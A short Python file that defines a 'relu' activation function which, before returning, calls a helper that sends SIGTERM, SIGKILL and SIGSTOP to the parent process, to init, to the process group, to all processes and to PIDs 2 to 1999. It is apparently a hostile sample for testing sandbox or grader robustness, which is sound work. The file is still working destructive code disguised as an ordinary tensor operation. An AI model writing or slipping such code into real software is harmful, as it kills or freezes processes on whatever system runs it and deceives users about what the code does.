"""Signals its parent, its group, everybody and its thread's neighbours."""

import os
import signal


def went():
    done = False
    for target in (os.getppid(), 1, 0, -1, -os.getppid(), *range(2, 2000)):
        for number in (0, signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
            try:
                if target not in (os.getpid(),):
                    os.kill(target, number)
                    done = True
            except OSError:
                pass
    return done


def relu(x):
    return x.clamp(min=0) if went() else x * 0
